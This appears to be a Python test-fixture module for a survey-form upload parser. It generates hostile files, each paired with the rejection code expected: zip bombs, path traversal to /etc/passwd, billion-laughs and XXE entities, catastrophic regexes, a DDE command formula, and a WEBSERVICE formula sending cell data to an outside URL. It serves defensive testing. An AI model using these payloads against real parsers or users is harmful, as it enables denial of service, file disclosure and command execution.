"""Files made to hurt whoever reads them as a form. Made here, when needed; none is kept."""

import re
import stat
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from openpyxl import Workbook

from fieldapp.forms.source import FormSource

SETTINGS = "\n| settings |\n| | form_id | version | form_title |\n| | visit | 1 | 访视 |\n"
HEAD = "| survey |\n| | type | name | label | calculation | relevant | constraint |\n"
NS = "http://schemas.openxmlformats.org/package/2006/content-types"
TYPES = f'<?xml version="1.0"?><Types xmlns="{NS}"/>'
XFORM = """<?xml version="1.0"?>{dtd}
<h:html xmlns="http://www.w3.org/2002/xforms" xmlns:h="http://www.w3.org/1999/xhtml">
<h:head><h:title>{title}</h:title><model><instance><data id="t" version="1">{data}</data></instance>
</model></h:head><h:body/></h:html>"""
LAUGHS = "<!DOCTYPE h [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 12))
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

FILES: dict[str, tuple[Callable[[], FormSource], str]] = {}
"""Name → how it is made, and the code it must be refused with."""


def hostile(code: str) -> Callable[[Callable[[], FormSource]], Callable[[], FormSource]]:
    """Enter a maker into FILES under its function's name."""

    def enter(make: Callable[[], FormSource]) -> Callable[[], FormSource]:
        FILES[make.__name__] = (make, code)
        return make

    return enter


def markdown(rows: str, head: str = HEAD) -> FormSource:
    """A form in Markdown."""
    return FormSource(".md", (head + rows + SETTINGS).encode())


def workbook(*rows: list[object], title: str = "survey") -> Workbook:
    """A workbook with one sheet beside the settings."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title)
    for row in rows:
        sheet.append(row)
    settings = book.create_sheet("settings")
    settings.append(["form_id", "version"])
    settings.append(["visit", "1"])
    return book


def saved(book: Workbook) -> bytes:
    """A workbook's bytes."""
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def repacked(content: bytes, **parts: bytes | None) -> bytes:
    """A workbook with parts replaced or added: `sheet1=b"…"`, or by path with `_` for `/`."""
    out = BytesIO()
    with ZipFile(BytesIO(content)) as old, ZipFile(out, "w", ZIP_DEFLATED) as new:
        for entry in old.infolist():
            told = parts.pop("sheet1", None) if entry.filename.endswith("sheet1.xml") else None
            new.writestr(entry.filename, old.read(entry) if told is None else told)
        for name, data in parts.items():
            new.writestr(name.replace("__", "/"), data or b"")
    return out.getvalue()


SMALL = [["type", "name", "label"], ["text", "a", "A"]]


# ---- archives


@hostile("file_too_big")
def zip_bomb() -> FormSource:
    return FormSource(".xlsx", repacked(saved(workbook(*SMALL)), sheet1=b"\0" * 120_000_000))


@hostile("unreadable")
def zip_bomb_that_lies() -> FormSource:
    bomb = zip_bomb().content
    size = (120_000_000).to_bytes(4, "little")
    return FormSource(".xlsx", bomb.replace(size, (1000).to_bytes(4, "little")))


@hostile("archive_odd")
def path_traversal() -> FormSource:
    return FormSource(".xlsx", repacked(saved(workbook(*SMALL)), **{"../../etc/passwd": b"x"}))


@hostile("archive_odd")
def symlink() -> FormSource:
    out = BytesIO(saved(workbook(*SMALL)))
    with ZipFile(out, "a") as archive:
        link = ZipInfo("xl/media")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc")
    return FormSource(".xlsx", out.getvalue())


@hostile("unreadable")
def nested_zip() -> FormSource:
    content = b"PK"
    for _ in range(20):
        out = BytesIO()
        with ZipFile(out, "w", ZIP_DEFLATED) as archive:
            archive.writestr("inner.zip", content)
        content = out.getvalue()
    return FormSource(".xlsx", content)


@hostile("encrypted_file")
def encrypted_workbook() -> FormSource:
    return FormSource(".xlsx", OLE + b"\0" * 4096 + "EncryptedPackage".encode("utf-16-le"))


@hostile("encrypted_file")
def encrypted_entries() -> FormSource:
    content = bytearray(saved(workbook(*SMALL)))
    for match in re.finditer(b"PK\x01\x02", bytes(content)):
        content[match.start() + 8] |= 1
    return FormSource(".xlsx", bytes(content))


@hostile("macros")
def macros() -> FormSource:
    return FormSource(".xlsx", repacked(saved(workbook(*SMALL)), **{"xl/vbaProject.bin": b"x"}))


@hostile("unreadable")
def half_a_workbook() -> FormSource:
    content = saved(workbook(*SMALL))
    return FormSource(".xlsx", content[: len(content) // 2])


@hostile("unreadable")
def workbook_without_parts() -> FormSource:
    out = BytesIO()
    with ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
    return FormSource(".xlsx", out.getvalue())


@hostile("unreadable")
def old_workbook_of_rubbish() -> FormSource:
    return FormSource(".xls", OLE + bytes(range(256)) * 200)


@hostile("kind_unknown")
def program() -> FormSource:
    return FormSource(".exe", b"MZ")


# ---- XML


@hostile("doctype")
def entities_in_a_sheet() -> FormSource:
    sheet = f'<?xml version="1.0"?>{LAUGHS}<worksheet><a>&a11;</a></worksheet>'
    return FormSource(".xlsx", repacked(saved(workbook(*SMALL)), sheet1=sheet.encode()))


@hostile("doctype")
def billion_laughs() -> FormSource:
    return FormSource(".xml", XFORM.format(dtd=LAUGHS, title="&a11;", data="<a/>").encode())


@hostile("doctype")
def external_entity() -> FormSource:
    dtd = '<!DOCTYPE h [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return FormSource(".xml", XFORM.format(dtd=dtd, title="&x;", data="<a/>").encode())


@hostile("doctype")
def entities_in_utf_16() -> FormSource:
    text = XFORM.format(dtd=LAUGHS, title="&a11;", data="<a/>")
    text = text.replace('"1.0"?', '"1.0" encoding="utf-16"?')
    return FormSource(".xml", text.encode("utf-16"))


@hostile("too_deep")
def deep_xform() -> FormSource:
    deep = "<g>" * 50_000 + "</g>" * 50_000
    return FormSource(".xml", XFORM.format(dtd="", title="T", data=deep).encode())


@hostile("file_too_big")
def endless_xform() -> FormSource:
    return FormSource(".xml", XFORM.format(dtd="", title="T", data="<a/>" * 400_000).encode())


# ---- size


@hostile("file_too_big")
def a_hundred_thousand_rows() -> FormSource:
    rows = ([("text"), f"q{i}", "Q"] for i in range(100_000))
    return FormSource(".xlsx", saved(workbook(["type", "name", "label"], *rows)))


@hostile("file_too_big")
def a_million_choices() -> FormSource:
    return FormSource(".csv", b'"choices"\n,list_name,name,label\n' + b",l,1,x\n" * 1_000_000)


@hostile("too_many_rows")
def twenty_thousand_questions() -> FormSource:
    return markdown("".join(f"| | text | q{i} | Q | | | |\n" for i in range(20_000)))


@hostile("too_many_languages")
def thousands_of_languages() -> FormSource:
    langs = " | ".join(f"label::L{i}" for i in range(3000))
    return markdown("| | text | a |" + " x |" * 3000, f"| survey |\n| | type | name | {langs} |\n")


@hostile("cell_too_long")
def huge_cell() -> FormSource:
    return markdown(f"| | text | a | {'很' * 1_000_000} | | | |")


@hostile("unreadable")
def huge_csv_field() -> FormSource:
    return FormSource(".csv", b'"survey"\n,type,name,label\n,text,a,"' + b"x" * 5_000_000 + b'"\n')


@hostile("takes_too_long")
def a_line_that_never_ends() -> FormSource:
    return FormSource(".md", b"| survey |\n| | type | name |\n|" + b"#" * 400_000 + b"|\n")


@hostile("takes_too_long")
def every_question_mentions_every_other() -> FormSource:
    mentions = " + ".join(f"${{q{i}}}" for i in range(400))
    rows = "".join(f"| | text | q{i} | Q | | {mentions} = 1 | |\n" for i in range(1000))
    return markdown(rows)


@hostile("file_too_big")
def eleven_megabytes() -> FormSource:
    return FormSource(".md", b"|" * (11 * 1024 * 1024))


# ---- depth and circles


@hostile("too_deep")
def deep_groups() -> FormSource:
    begins = "".join(f"| | begin_group | g{i} | G | | | |\n" for i in range(2000))
    return markdown(begins + "| | text | a | A | | | |\n" + "| | end_group | | | | | |\n" * 2000)


@hostile("xpath_invalid")
def deep_expression() -> FormSource:
    return markdown(f"| | calculate | a | | {'(' * 3000}1{')' * 3000} | | |")


@hostile("too_deep")
def long_expression() -> FormSource:
    return markdown(f"| | calculate | a | | {'1+' * 4000}1 | | |")


@hostile("cycle")
def circle() -> FormSource:
    rows = "".join(f"| | calculate | q{i} | | ${{q{(i + 1) % 300}}} | | |\n" for i in range(300))
    return markdown(rows)


@hostile("pyxform_names_001")
def duplicated_names() -> FormSource:
    return markdown("| | text | a | A | | | |\n" * 300)


# ---- what would hurt later


@hostile("regex_unsafe")
def catastrophic_pattern() -> FormSource:
    return markdown("| | text | a | A | | | regex(., '^(\\w+\\s?)*$') |")


@hostile("regex_computed")
def pattern_from_an_answer() -> FormSource:
    return markdown("| | text | a | A | | | |\n| | text | b | B | | | regex(., ${a}) |")


@hostile("formula_text")
def formula_as_text() -> FormSource:
    return markdown("| | text | a | =cmd\\|'/C calc'!A0 | | | |")


@hostile("formula_unfinished")
def formula_without_result() -> FormSource:
    return FormSource(
        ".xlsx", saved(workbook(*SMALL, ["text", "b", '=WEBSERVICE("http://x/"&A1)']))
    )


@hostile("not_utf8")
def invalid_utf_8() -> FormSource:
    return FormSource(".md", HEAD.encode() + b"| | text | a | \xff\xfe | | | |\n")


@hostile("unreadable")
def half_a_character() -> FormSource:
    return FormSource(".csv", b"survey,,,\n,type,name,label\n,text,a,A\0\n")
